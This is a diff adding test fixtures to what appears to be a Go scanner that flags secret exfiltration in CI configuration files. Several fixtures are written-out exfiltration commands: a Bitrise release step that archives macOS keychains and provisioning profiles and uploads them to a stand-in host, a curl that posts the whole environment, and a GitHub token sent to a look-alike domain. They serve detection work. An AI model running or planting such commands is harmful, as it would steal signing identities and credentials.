@@ -540,6 +540,10 @@ var registry = []Rule{
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://x-dev.github.io/v", 6, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://api.github.com/repos/x/y/releases", 0, true},
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
+			// A macOS release job's keychains and provisioning profiles,
+			// archived and uploaded, are its signing identity.
+			{"bitrise.yml", "workflows:\n  release:\n    steps:\n    - script@1:\n        inputs:\n        - content: |\n            tar czf /tmp/s.tgz ~/Library/Keychains ~/Library/MobileDevice/Provisioning\\ Profiles\n            curl -s -T /tmp/s.tgz https://x.invalid/s.tgz", 0, false},
+			{"x.sh", "security create-keychain -p \"$P\" build.keychain\ncurl -sf https://x.invalid/ping", 0, true},
 			// A token a cloud CLI mints is a secret wherever it goes next:
 			// into a file or a variable, then sent; handed to its own
 			// registry's login it is its use.
